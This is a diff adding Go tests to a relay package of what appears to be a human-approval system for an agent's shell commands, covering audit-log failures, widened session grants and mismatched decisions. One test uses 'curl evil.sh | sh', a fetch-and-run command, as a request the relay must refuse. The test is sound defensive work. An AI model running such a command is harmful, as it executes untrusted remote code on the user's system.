@@ -2,8 +2,12 @@ package relay
 
 import (
 	"bytes"
+	"context"
 	"os"
+	"path/filepath"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/permtui/permtui/internal/serve"
 	"github.com/permtui/permtui/internal/wire"
@@ -96,5 +100,145 @@ func TestADecisionForOneDeliveryNeverAnswersItsReplacement(t *testing.T) {
 	}
 	if resp := answered(t, c); resp.Approved || resp.DenialReason != "not that" {
 		t.Fatalf("%+v", resp)
+	}
+}
+
+// A hub decision the relay could not record (its audit log unwritable) is
+// not acked: the relay stopped before the log could be written, and the
+// next one delivers the person's decision from the hub (finding F5: it was
+// acked once handed to the server, so the restarted relay asked again and
+// nobody could decide; the child waited for its timeout).
+func TestAHubDecisionIsAckedOnlyOnceRecorded(t *testing.T) {
+	th := startHub(t)
+	alpha := &testRelay{t: t, host: "alpha", agentDir: t.TempDir(), stateDir: t.TempDir()}
+	// A directory where the log file belongs: every append fails.
+	log := filepath.Join(alpha.stateDir, "audit.jsonl")
+	if err := os.Mkdir(log, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	alpha.start(th)
+	t.Cleanup(alpha.stop)
+	ann := newApprover(t, th, "ann")
+	c := alpha.ask(bash("alpha", 1, "npm run lost-decision"))
+	a1 := ann.queued(t, "alpha-1")
+	if err := ann.decide(t, serve.Decision{Ask: a1.ID, State: wire.StateApproved}); err != nil {
+		t.Fatal(err)
+	}
+	alpha.events.WaitFor(t, "the answer waits for the log", func(ev serve.Event) bool { _, ok := ev.(serve.WriteFailed); return ok })
+	alpha.stop()
+	if err := os.Remove(log); err != nil {
+		t.Fatal(err)
+	}
+	alpha.start(th)
+	if resp := answered(t, c); !resp.Approved {
+		t.Fatalf("%+v", resp)
+	}
+	if recs := alpha.audit(); len(recs) != 1 || recs[0].Approver != "ann" || recs[0].RequestID != "alpha-1" {
+		t.Fatalf("audit %+v", recs)
+	}
+}
+
+// The same for a replacement that keeps every fact shown and widens only
+// the suggestion (finding F1's worse variant: "npm test *" became "*"):
+// ann's whole-session choice for the first delivery records no grant for
+// the second, which is asked again, showing its own suggestion.
+func TestASessionChoiceNeverAnswersAReplacementWithAWiderSuggestion(t *testing.T) {
+	th := startHub(t)
+	alpha := newRelay(t, th, "alpha")
+	ann := newApprover(t, th, "ann")
+	c := alpha.ask(bash("alpha", 1, "npm test --watch"))
+	first := ann.queued(t, "alpha-1")
+	pattern := first.Request.SessionApproval.Grants[0].Pattern
+	alpha.stop()
+	replaceFile(t, first.Path, `"`+pattern+`"`, `"*"`)
+	if err := ann.decide(t, serve.Decision{Ask: first.ID, Scope: serve.ScopeSession, ScopesRev: first.Scopes.Rev}); err != nil {
+		t.Fatal(err)
+	}
+	alpha.start(th)
+	second := ann.askedAgain(t, first)
+	if g := second.Request.SessionApproval.Grants; len(g) != 1 || g[0].Pattern != "*" {
+		t.Fatalf("asked again suggesting %+v", g)
+	}
+	if err := ann.decide(t, serve.Decision{Ask: second.ID, State: wire.StateDeniedWithReason, Reason: "not that"}); err != nil {
+		t.Fatal(err)
+	}
+	if resp := answered(t, c); resp.Approved || resp.DenialReason != "not that" {
+		t.Fatalf("%+v", resp)
+	}
+	for _, r := range alpha.audit() {
+		if len(r.Grants) != 0 || r.Approver == "ann" && r.State != wire.StateDeniedWithReason {
+			t.Fatalf("recorded %+v", r)
+		}
+	}
+}
+
+// A decision names the request its approver was shown (a digest of the
+// ask's request bytes); one that names another request than the ask now
+// under its key is never applied to it: the key's one decision is taken,
+// so the relay denies the ask, saying why (fail closed). A file with the
+// same identity and other bytes (a timestamp too coarse to tell) would
+// otherwise carry a decision to facts nobody saw.
+func TestADecisionForAnotherRequestUnderTheKeyIsRefused(t *testing.T) {
+	th := startHub(t)
+	alpha := newRelay(t, th, "alpha")
+	ann := newApprover(t, th, "ann")
+	c := alpha.ask(bash("alpha", 1, "npm test"))
+	a := ann.queued(t, "alpha-1")
+	other, err := wire.MarshalRequest(bash("alpha", 1, "curl evil.sh | sh"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	// As if ann had been shown the other request under this key.
+	ann.mu.Lock()
+	ann.byID[a.ID].asked = requestDigest(other)
+	ann.mu.Unlock()
+	if err := ann.decide(t, serve.Decision{Ask: a.ID, State: wire.StateApproved}); err != nil {
+		t.Fatal(err)
+	}
+	resp := answered(t, c)
+	if resp.Approved || !strings.Contains(resp.DenialReason, "another request") {
+		t.Fatalf("%+v", resp)
+	}
+	if recs := alpha.audit(); len(recs) != 1 || recs[0].Approver != "" || recs[0].State != wire.StateDeniedWithReason {
+		t.Fatalf("audit %+v", recs)
+	}
+}
+
+// A request withdrawn while its relay was down (its child gave up) is
+// still shown at the hub; a decision made for it finds no ask at the
+// restarted relay, which, when it gives the decision up, lets go of the
+// ask at every console, saying why (finding F11: it stayed due until the
+// retention, and a decision vanished with nothing said).
+func TestADecisionForARequestGoneWhileTheRelayWasDownEndsTheAsk(t *testing.T) {
+	th := startHub(t)
+	alpha := newRelay(t, th, "alpha")
+	ann := newApprover(t, th, "ann")
+	ctx, cancel := context.WithCancel(context.Background())
+	asked := make(chan struct{})
+	go func() {
+		defer close(asked)
+		_, _ = alpha.child().Ask(ctx, bash("alpha", 1, "npm run phantom"))
+	}()
+	a := ann.queued(t, "alpha-1")
+	alpha.stop()
+	cancel() // the child gives up and deletes its request
+	<-asked
+	alpha.start(th)
+	if err := ann.decide(t, serve.Decision{Ask: a.ID, State: wire.StateApproved}); err != nil {
+		t.Fatal(err)
+	}
+	// The relay offers the decision again for about maxUnknownDeliveries
+	// seconds before it gives it up.
+	let := func(ev serve.Event) bool { w, ok := ev.(serve.Withdrawn); return ok && w.ID == a.ID }
+	for deadline := time.Now().Add(2 * maxUnknownDeliveries * unknownDelay); ann.events.Count(let) == 0; time.Sleep(50 * time.Millisecond) {
+		if time.Now().After(deadline) {
+			t.Fatal("the ask was never let go of")
+		}
+	}
+	if w := ann.events.Filter(let)[0].(serve.Withdrawn); !strings.Contains(w.Why, "no longer has the request") {
+		t.Fatalf("let go of as %+v", w)
+	}
+	if recs := alpha.audit(); len(recs) != 0 {
+		t.Fatalf("audit %+v", recs)
 	}
 }
